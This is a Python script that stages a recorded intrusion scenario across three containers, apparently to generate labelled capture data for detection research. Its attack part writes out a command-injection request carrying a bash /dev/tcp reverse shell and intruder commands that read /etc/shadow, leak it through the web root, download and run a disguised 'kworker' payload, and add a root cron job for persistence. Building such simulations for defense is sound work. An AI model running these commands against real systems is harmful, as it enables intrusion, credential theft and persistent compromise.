# ruff: noqa: INP001, S603, S607 - a script beside others; it runs fixed programs of Debian
"""Plays the tale of first_light while it is recorded: three machines, visitors, one intruder.

    falcotrace record -o raw.parquet -- python3 captures/make/tale.py FOLDER

In: a folder with bundles (`first_light.py` makes it). Out: `pid_namespaces.json` there, which names
the namespaces to keep. The visitors' side of the network is this process, in the namespace of the
"internet"; it is not one of the machines and so not in the capture.
"""

import ctypes
import http.client
import http.server
import json
import os
import pty
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Callable, Iterable
from functools import partial
from pathlib import Path

from bundles import MASTER_ADDRESS, MASTER_PORT, SERVER_ADDRESS, SERVER_PORT

INTERNET = "first-light-internet"
CLONE_NEWNET = 0x40000000
SHELL_PORT = 4444
VISITORS = ("198.51.100.7", "198.51.100.23")
SECONDS_BEFORE_CRON = 26
"""Cron jobs begin with the minute; the tale begins so long before."""

Step = tuple[float, Callable[[], object]]
"""Something to do, and when: seconds from the minute."""

OPERATOR_LINES = (
    (-18.0, "ls -l"),
    (-17.0, "cat notes.txt"),
    (-15.5, "echo 'web-1: shop and worker, maintenance on Sunday' > /etc/motd"),
    (-14.0, "exit"),
)
"""What the operator types on the host's terminal."""

INTRUDER_LINES = (
    (-9.5, "id; hostname"),
    (-8.5, "cat /etc/shadow"),
    (-7.5, "ln -s /etc/shadow /srv/www/robots.bak"),
    (-5.5, "cp /srv/www/robots.bak /dev/.cache"),
    (-4.5, "mkdir /tmp/.x; wget -q -O /tmp/.x/kworker http://203.0.113.66/kworker"),
    (-3.5, "chmod 755 /tmp/.x/kworker; /tmp/.x/kworker &"),
    (-1.5, "cp /tmp/.x/kworker /usr/local/bin/free"),
    (1.0, "echo '* * * * * /usr/local/bin/free' >> /etc/crontabs/root"),
    (5.0, "exit"),
)
"""What the intruder types into the shell that the server opened."""


class Tale:
    """The order of events; time 0 is the full minute at which cron jobs run."""

    def __init__(self, folder: Path, host_terminal: int) -> None:
        self._folder = folder
        self._terminal = host_terminal
        self._minute = _next_minute(SECONDS_BEFORE_CRON)
        self._intruder: socket.socket | None = None

    def play(self) -> None:
        """Play it; everything on the machines goes on running afterwards."""
        self._at(-24)
        for name in ("host", "shop", "worker"):
            _runc("run", "--detach", "--bundle", str(self._folder / name), name)
        _write_namespaces(self._folder)
        steps = [*self._ordinary_work(), *self._intrusion()]
        for second, step in sorted(steps, key=lambda item: item[0]):
            self._at(second)
            step()
        self._at(7)

    def _ordinary_work(self) -> Iterable[Step]:
        for second, visitor, path in (
            (-22.0, 0, "/"),
            (-21, 1, "/"),
            (-19, 0, "/prices.html"),
            (-13, 1, "/prices.html"),
            (-6, 0, "/"),
            (3, 1, "/"),
        ):
            yield second, partial(_get, path, VISITORS[visitor])
        for second in (-20.0, 2.0):
            yield second, _check_health
        for second, line in OPERATOR_LINES:
            yield second, partial(os.write, self._terminal, f"{line}\n".encode())
        yield 4, partial(_visit_shop, ["ls -l /srv/www", "exit"])

    def _intrusion(self) -> Iterable[Step]:
        yield -12, partial(_get, "/", MASTER_ADDRESS)
        yield -10.5, self._break_in
        for second, line in INTRUDER_LINES:
            yield second, partial(self._type, line)
        yield -6.5, partial(_get, "/robots.bak", MASTER_ADDRESS)

    def _break_in(self) -> None:
        """Ask for the status of a host whose name is a command; the answer is a shell."""
        listener = socket.create_server((MASTER_ADDRESS, SHELL_PORT))
        listener.settimeout(10)
        command = f"bash -i >& /dev/tcp/{MASTER_ADDRESS}/{SHELL_PORT} 0>&1"
        name = urllib.parse.quote(f"shop; bash -c '{command}'")
        request = f"/cgi-bin/status?host={name}"
        threading.Thread(target=_get, args=(request, MASTER_ADDRESS), daemon=True).start()
        self._intruder, _ = listener.accept()
        threading.Thread(target=_drain, args=(self._intruder,), daemon=True).start()

    def _type(self, line: str) -> None:
        assert self._intruder is not None
        self._intruder.sendall(f"{line}\n".encode())

    def _at(self, second: float) -> None:
        time.sleep(max(0.0, self._minute + second - time.time()))


def _next_minute(least_seconds: float) -> float:
    now = time.time()
    return (now + least_seconds) // 60 * 60 + 60


def _runc(*arguments: str, terminal: int | None = None) -> None:
    quiet = subprocess.DEVNULL if terminal is None else terminal
    subprocess.run(["runc", *arguments], check=True, stdin=quiet, stdout=quiet, stderr=quiet)


def _check_health() -> None:
    address = f"http://127.0.0.1:{SERVER_PORT}/"
    _runc("exec", "shop", "/bin/sh", "-c", f"wget -q -O /dev/null {address} || exit 1")


def _visit_shop(lines: Iterable[str]) -> None:
    """Somebody looks around in the container, on a terminal."""
    ours, theirs = pty.openpty()
    threading.Thread(target=_drain, args=(ours,), daemon=True).start()

    def write() -> None:
        for line in lines:
            time.sleep(0.6)
            os.write(ours, f"{line}\n".encode())

    threading.Thread(target=write, daemon=True).start()
    _runc("exec", "--tty", "shop", "/bin/sh", terminal=theirs)


def _get(path: str, visitor: str) -> None:
    connection = http.client.HTTPConnection(
        SERVER_ADDRESS, SERVER_PORT, timeout=60, source_address=(visitor, 0)
    )
    connection.request("GET", path)
    connection.getresponse().read()
    connection.close()


def _drain(source: socket.socket | int) -> None:
    """Read and forget, so that nobody has to wait for us."""
    try:
        while source.recv(4096) if isinstance(source, socket.socket) else os.read(source, 4096):
            pass
    except OSError:
        return


def _serve_payload(folder: Path) -> None:
    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = (folder / "kworker").read_bytes()
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.HTTPServer((MASTER_ADDRESS, 80), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()


def _listen_to_reports() -> None:
    listener = socket.create_server((MASTER_ADDRESS, MASTER_PORT))

    def accept() -> None:
        while True:
            _drain(listener.accept()[0])

    threading.Thread(target=accept, daemon=True).start()


def _write_namespaces(folder: Path) -> None:
    """Note the machines' pid namespaces: what belongs to them stays in the capture."""
    found = {}
    for name in ("host", "shop", "worker"):
        state = subprocess.run(["runc", "state", name], check=True, capture_output=True)
        pid = json.loads(state.stdout)["pid"]
        found[name] = Path(f"/proc/{pid}/ns/pid").stat().st_ino
    (folder / "pid_namespaces.json").write_text(json.dumps(found))


def read_namespaces(folder: Path) -> frozenset[int]:
    """The pid namespaces of the machines that were played in a folder."""
    return frozenset(json.loads((folder / "pid_namespaces.json").read_text()).values())


def _enter_internet() -> None:
    with Path(f"/run/netns/{INTERNET}").open() as namespace:
        if ctypes.CDLL(None, use_errno=True).setns(namespace.fileno(), CLONE_NEWNET):
            raise OSError(ctypes.get_errno(), "cannot enter the network namespace")


def main() -> None:
    """Play the tale with the bundles of a folder."""
    folder, terminal = Path(sys.argv[1]), int(sys.argv[2])
    threading.Thread(target=_drain, args=(terminal,), daemon=True).start()
    _enter_internet()
    _serve_payload(folder)
    _listen_to_reports()
    Tale(folder, terminal).play()


if __name__ == "__main__":
    main()
